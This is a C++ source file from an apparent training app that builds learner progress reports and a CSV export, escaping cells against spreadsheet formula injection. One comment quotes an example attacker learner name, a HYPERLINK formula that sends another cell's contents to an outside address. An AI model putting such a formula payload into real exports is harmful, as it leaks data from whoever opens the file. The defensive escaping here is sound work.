#include "core/progress/progress_report.h"

#include <algorithm>
#include <map>
#include <string_view>

#include "core/progress/calendar.h"
#include "core/progress/mastery.h"

namespace warmline {
namespace {

// Where a question sits in the course, for the tie-break and its texts.
struct QuestionPlace {
  std::size_t module = 0;
  std::size_t index = 0;  // within the module's quiz
  const Question* question = nullptr;
};

std::map<std::string_view, QuestionPlace> question_places(const Course& course) {
  std::map<std::string_view, QuestionPlace> places;
  for (std::size_t m = 0; m < course.modules.size(); ++m) {
    const std::vector<Question>& qs = course.modules[m].quiz.questions;
    for (std::size_t i = 0; i < qs.size(); ++i) places.emplace(qs[i].id, QuestionPlace{m, i, &qs[i]});  // first wins
  }
  return places;
}

bool tried(const LearnerProgress& p, const std::string& module_id) {
  const auto it = p.quizzes.find(module_id);
  return it != p.quizzes.end() && it->second.attempts > 0;
}

// Spreadsheets (Excel, LibreOffice, Google Sheets) run a CSV cell that starts
// with = + - or @ as a formula, and some skip a leading tab or CR before
// deciding. Learner names are typed by anyone at the kiosk, so a name like
// =HYPERLINK("http://x/?"&B2,"Open") would run on the trainer's computer
// when they open the export. A leading apostrophe makes the cell plain text
// in all of them (the OWASP "CSV injection" advice); the cost is a visible
// apostrophe on the rare honest name that starts with "-".
std::string defuse(std::string_view text) {
  std::string out;
  if (!text.empty()) {
    const char c = text.front();
    if (c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r') out += '\'';
  }
  out.append(text);
  return out;
}

// RFC 4180: a field holding a comma, quote, CR or LF is quoted, with its
// quotes doubled.
void put_field(std::string& row, std::string_view field) {
  if (field.find_first_of(",\"\r\n") == std::string_view::npos) {
    row.append(field);
    return;
  }
  row += '"';
  for (const char c : field) {
    if (c == '"') row += '"';
    row += c;
  }
  row += '"';
}

void put_text(std::string& row, std::string_view text) { put_field(row, defuse(text)); }

// YYYY-MM-DD, or empty for a day outside years 0000..9999: saved days are
// unchecked int32, and far-off ones are neither ISO dates nor safe to feed
// the calendar arithmetic (it would overflow near INT_MAX).
std::string iso_date(std::optional<int> day) {
  static const int first = days_from_civil({0, 1, 1});
  static const int last = days_from_civil({9999, 12, 31});
  if (!day || *day < first || *day > last) return {};
  return format_day(*day);
}

}  // namespace

std::optional<int> last_active_day(const LearnerProgress& p) {
  std::optional<int> day;
  if (p.streak.current > 0) day = p.streak.last_active_day;  // meaningless while current == 0
  if (!p.xp_log.empty()) day = std::max(day.value_or(p.xp_log.back().day), p.xp_log.back().day);
  return day;
}

ProgressReport make_progress_report(const Course& course, const std::vector<LearnerRecord>& learners,
                                    const MasteryRules& rules, std::size_t most_missed) {
  ProgressReport report;
  report.learners = learners.size();
  for (const Module& m : course.modules) {
    ModuleReport r;
    r.id = m.id;
    r.title = m.title;
    r.has_quiz = !m.quiz.questions.empty();
    long long mastery_sum = 0;
    for (const LearnerRecord& l : learners) {
      mastery_sum += module_mastery(l.progress, m.id, rules);
      if (tried(l.progress, m.id)) ++r.learners_tried;
    }
    if (!learners.empty()) r.average_mastery = static_cast<double>(mastery_sum) / static_cast<double>(learners.size());
    report.modules.push_back(std::move(r));
  }

  const std::map<std::string_view, QuestionPlace> places = question_places(course);
  struct Tally {
    QuestionPlace place;
    std::int64_t misses = 0;
    int learners = 0;
  };
  std::map<std::string_view, Tally> tallies;
  for (const LearnerRecord& l : learners) {
    for (const auto& [id, misses] : l.progress.question_misses) {
      if (misses <= 0) continue;  // the rules never keep one; a hand-made progress might
      const auto place = places.find(id);
      if (place == places.end()) continue;  // gone from this version of the course
      Tally& t = tallies[place->first];
      t.place = place->second;
      t.misses += misses;
      ++t.learners;
    }
  }
  std::vector<Tally> order;
  order.reserve(tallies.size());
  for (const auto& entry : tallies) order.push_back(entry.second);
  std::sort(order.begin(), order.end(), [](const Tally& a, const Tally& b) {
    if (a.misses != b.misses) return a.misses > b.misses;
    if (a.learners != b.learners) return a.learners > b.learners;
    if (a.place.module != b.place.module) return a.place.module < b.place.module;
    return a.place.index < b.place.index;
  });
  if (order.size() > most_missed) order.resize(most_missed);
  for (const Tally& t : order) {
    const Module& m = course.modules[t.place.module];
    report.most_missed.push_back({t.place.question->id, m.id, m.title, t.place.question->prompt, t.misses, t.learners});
  }
  return report;
}

std::string progress_csv(const Course& course, const std::vector<LearnerRecord>& learners, const MasteryRules& rules) {
  std::string csv = "\xEF\xBB\xBF" "learner,learner_id,module_id,module,mastery,best_score_percent,quiz_attempts,last_active\r\n";
  for (const LearnerRecord& l : learners) {
    const std::string last_active = iso_date(last_active_day(l.progress));
    for (const Module& m : course.modules) {
      const auto h = l.progress.quizzes.find(m.id);
      const bool attempted = h != l.progress.quizzes.end() && h->second.attempts > 0;
      put_text(csv, l.progress.name);
      csv += ',';
      put_text(csv, l.id);
      csv += ',';
      put_text(csv, m.id);
      csv += ',';
      put_text(csv, m.title);
      csv += ',';
      csv += std::to_string(module_mastery(l.progress, m.id, rules));
      csv += ',';
      if (attempted) csv += std::to_string(h->second.best_percent);
      csv += ',';
      csv += std::to_string(attempted ? h->second.attempts : 0);
      csv += ',';
      csv += last_active;
      csv += "\r\n";
    }
  }
  return csv;
}

}  // namespace warmline
